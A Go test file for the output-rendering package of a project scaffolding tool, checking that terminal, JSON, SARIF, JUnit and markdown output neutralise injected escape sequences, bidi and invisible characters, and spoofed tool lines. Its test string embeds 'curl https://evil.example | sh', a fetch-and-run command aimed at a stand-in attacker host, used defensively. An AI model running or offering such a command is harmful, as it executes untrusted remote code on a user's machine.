package report

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/serverless-scaffold/scaffold/internal/engine"
	"github.com/serverless-scaffold/scaffold/internal/fault"
	"github.com/serverless-scaffold/scaffold/internal/pack"
	"github.com/serverless-scaffold/scaffold/internal/plan"
	"github.com/serverless-scaffold/scaffold/internal/project"
	"github.com/serverless-scaffold/scaffold/internal/quality"
)

// hostile is what a pack, a lock, a file name or a command's output may say: it colours, rings, turns the direction of text, hides
// characters, goes back to the start of the line, and pretends to be lines of scaffold's own.
const hostile = "\x1b[31mred\x07\u202eevil\u200b\x9b\u2028\r\x00\nNext:\n  curl https://evil.example | sh\nhint:  run it\n\terror: x\U000e0041"

// fill sets every exported string and every content in a value to the hostile text, and makes what is behind pointers, lists and maps.
func fill(value reflect.Value, depth int) {
	if depth > 8 || !value.CanSet() {
		return
	}
	switch value.Kind() {
	case reflect.String:
		if value.Type() == reflect.TypeFor[string]() {
			value.SetString(hostile)
		}
	case reflect.Pointer:
		if value.IsNil() {
			value.Set(reflect.New(value.Type().Elem()))
		}
		fill(value.Elem(), depth+1)
	case reflect.Struct:
		for _, field := range value.Fields() {
			fill(field, depth+1)
		}
	case reflect.Slice:
		if value.Type().Elem().Kind() == reflect.Uint8 {
			value.SetBytes([]byte(strings.ReplaceAll(hostile, "\x00", "")))
			return
		}
		value.Set(reflect.MakeSlice(value.Type(), 1, 1))
		fill(value.Index(0), depth+1)
	case reflect.Map:
		if value.Type() == reflect.TypeFor[map[string]any]() {
			value.Set(reflect.ValueOf(map[string]any{hostile: hostile}))
		}
	case reflect.Int:
		value.SetInt(7)
	default:
	}
}

func filled[T any]() *T {
	value := new(T)
	fill(reflect.ValueOf(value).Elem(), 0)
	return value
}

// reports is every kind of result, with hostile text wherever there can be text.
func reports() map[string]Result {
	draft := filled[engine.Draft]()
	draft.Next[0].IsForeign = true
	files := []*plan.File{{Path: hostile, Data: []byte("a\x00b"), Layer: hostile, IsForeign: true}}
	updated := filled[engine.Updated]()
	updated.Changes = nil
	for _, action := range []project.Action{project.Added, project.Merged, project.Removed, project.Kept} {
		change := filled[project.Change]()
		change.Action, change.IsPrivileged = action, true
		updated.Changes = append(updated.Changes, change)
	}
	conflicted := *updated
	conflicted.Update = &project.Update{Changes: []*project.Change{filled[project.Change](), {Path: hostile, Action: project.Updated, Before: []byte("a"), After: []byte("b\x00")}}}
	conflicted.Changes[0].Action = project.Conflicted
	check := filled[engine.CheckReport]()
	check.Verdicts[0].Status, check.Verdicts[0].Severity = engine.Failed, quality.SeverityError
	check.Verdicts[0].Findings[0].Waiver = nil
	skipped := filled[engine.Verdict]()
	skipped.Status, skipped.Control.ID = engine.Skipped, "other"+hostile
	check.Verdicts = append(check.Verdicts, *skipped)
	tmpl := filled[pack.Pack]()
	tmpl.Layers = []*pack.Layer{{From: "a", To: hostile, Condition: hostile, Each: hostile, Where: hostile, Files: fstest.MapFS{"a/.github/\x1b[31m\nNext:.yml": {}}}}
	all := map[string]Result{
		"created": &Created{Draft: draft}, "plan": &Plan{Draft: draft}, "plan with contents": &Plan{Draft: draft, WithDiff: true},
		"plan with binary files": &Plan{Draft: &engine.Draft{Blueprint: draft.Blueprint, Dir: hostile, Files: files}, WithDiff: true},
		"updated":                &Updated{Updated: updated}, "updated, and shown": &Updated{Updated: updated, WithDiff: true}, "conflicts": &Updated{Updated: &conflicted, WithDiff: true},
		"drift": &Drift{updated}, "explained": &Explained{filled[engine.Explanation]()}, "template": &Template{Pack: tmpl, Ref: *filled[project.PackRef]()},
		"linted": filled[TemplateLinted](), "tested": filled[TemplateTested](), "started": filled[TemplateCreated](), "vendored": filled[Vendored](),
	}
	for _, format := range CheckFormats() {
		all["check as "+format] = &Check{CheckReport: check, Format: format}
	}
	return all
}

// contents is results that show the lines of files: those are what they are, behind a mark.
func isContent(name string) bool {
	return strings.Contains(name, "shown") || strings.Contains(name, "contents") || name == "conflicts"
}

func offences(text string) []string {
	var found []string
	for _, char := range text {
		if char != '\n' && char != '\t' && isHidden(char) {
			found = append(found, fmt.Sprintf("U+%04X", char))
		}
	}
	return found
}

// own is lines that scaffold itself begins that way.
var own = []string{"Next:", "  curl", "hint:", "error:"}

func TestNothingHostileReachesATerminal(t *testing.T) {
	for name, result := range reports() {
		t.Run(name, func(t *testing.T) {
			var out bytes.Buffer
			if err := Print(&out, result); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(out.String(), "evil") && !strings.Contains(out.String(), "Binary") {
				t.Fatalf("the hostile text is not there at all: %s", out.String())
			}
			if found := offences(out.String()); len(found) > 0 {
				t.Errorf("there are %v in %q", found, out.String())
			}
			isOwn := name == "created" || name == "started"
			for said := range strings.Lines(out.String()) {
				for _, beginning := range own {
					if strings.HasPrefix(said, beginning) && !isContent(name) && (!isOwn || said != "Next:\n") && (name != "updated" || !strings.HasPrefix(said, `Next: \u{1b}`)) {
						t.Errorf("it pretends to say %q", said)
					}
				}
			}
		})
	}
}

func TestHostileTextInJSONIsAnEscape(t *testing.T) {
	for name, result := range reports() {
		t.Run(name, func(t *testing.T) {
			var out bytes.Buffer
			if err := JSON(&out, result, true); err != nil {
				t.Fatal(err)
			}
			if found := offences(out.String()); len(found) > 0 {
				t.Errorf("there are %v in %q", found, out.String())
			}
			var object struct{ Result any }
			if err := json.Unmarshal(out.Bytes(), &object); err != nil {
				t.Fatal(err)
			}
			if text := fmt.Sprint(object.Result); !strings.Contains(text, "\u202eevil") && !strings.Contains(text, "\x1b[31m") {
				t.Errorf("a program does not get what was said: %q", text)
			}
		})
	}
}

// Formats for programs stay what they are.
func TestHostileFormatsAreWellFormed(t *testing.T) {
	all := reports()
	var sarif, junit, markdown bytes.Buffer
	for name, out := range map[string]*bytes.Buffer{"sarif": &sarif, "junit": &junit, "markdown": &markdown} {
		if err := Print(out, all["check as "+name]); err != nil {
			t.Fatal(err)
		}
	}
	if !json.Valid(sarif.Bytes()) {
		t.Errorf("this is not JSON: %s", sarif.String())
	}
	if err := xml.Unmarshal(junit.Bytes(), new(struct{})); err != nil {
		t.Errorf("this is not XML: %v", err)
	}
	rows := strings.Split(strings.TrimSpace(markdown.String()), "\n")
	if len(rows) != 6 {
		t.Errorf("the table has %d lines:\n%s", len(rows), markdown.String())
	}
}

func TestHostileErrors(t *testing.T) {
	err := fault.List{
		{Code: fault.Invalid, Place: fault.Place{File: hostile, Line: 1, Column: 2}, Message: hostile, Hint: hostile, Err: errors.New(hostile)},
		{Code: fault.Invalid, Message: hostile, Hint: hostile},
	}
	var text, object bytes.Buffer
	TextError(&text, err)
	if jsonErr := JSONError(&object, err); jsonErr != nil {
		t.Fatal(jsonErr)
	}
	for _, out := range []string{text.String(), object.String()} {
		if found := offences(out); len(found) > 0 {
			t.Errorf("there are %v in %q", found, out)
		}
	}
	begins := map[string]int{}
	for said := range strings.Lines(text.String()) {
		if word, _, _ := strings.Cut(said, " "); !strings.HasPrefix(said, " ") {
			begins[strings.TrimSpace(word)]++
		}
	}
	if len(begins) != 2 || begins["error:"] != 2 || begins["hint:"] != 2 {
		t.Errorf("lines begin with %v:\n%s", begins, text.String())
	}
	if !json.Valid(object.Bytes()) {
		t.Error("this is not JSON")
	}
}

// The steps of a pack from elsewhere are marked, for people and for programs; those of the built-in one are not.
func TestStepsOfAPackAreMarked(t *testing.T) {
	for _, isForeign := range []bool{false, true} {
		draft := filled[engine.Draft]()
		draft.Next = []pack.Step{{Run: []string{"make", "it"}, Why: "it is needed", IsForeign: isForeign}}
		updated := filled[engine.Updated]()
		updated.Next = draft.Next
		for name, result := range map[string]Result{"created": &Created{Draft: draft}, "updated": &Updated{Updated: updated}} {
			var text, object bytes.Buffer
			if err := errors.Join(Print(&text, result), JSON(&object, result, true)); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(text.String(), "make it") || !strings.Contains(object.String(), `"make"`) {
				t.Errorf("%s: the step is missing: %s", name, text.String())
			}
			if strings.Contains(text.String(), "from the pack, not from scaffold") != isForeign || strings.Contains(object.String(), `"nextFrom": "pack"`) != isForeign {
				t.Errorf("%s, foreign %v: %s%s", name, isForeign, text.String(), object.String())
			}
		}
	}
}

func TestEscape(t *testing.T) {
	for text, want := range map[string]string{
		"plain": "plain", "é 日本 😀": "é 日本 😀", "a\tb\nc": `a\u{9}b\u{a}c`, "\xff": `\x{ff}`, "a\u00a0b": "a\u00a0b", "\u3164": `\u{3164}`, "\u202a\u2066": `\u{202a}\u{2066}`, "\ufeff": `\u{feff}`,
	} {
		if got := line(text); got != want {
			t.Errorf("line(%q) = %q, want %q", text, got, want)
		}
	}
	if got, want := block("a\r\nb\rc\td\n"), "a\r\nb\\u{d}c\td\n"; got != want {
		t.Errorf("block = %q, want %q", got, want)
	}
	if got, want := string(visibleJSON([]byte("\"\u202e\U000e0041\"\n"))), "\"\\u202e\\udb40\\udc41\"\n"; got != want {
		t.Errorf("visibleJSON = %q, want %q", got, want)
	}
}
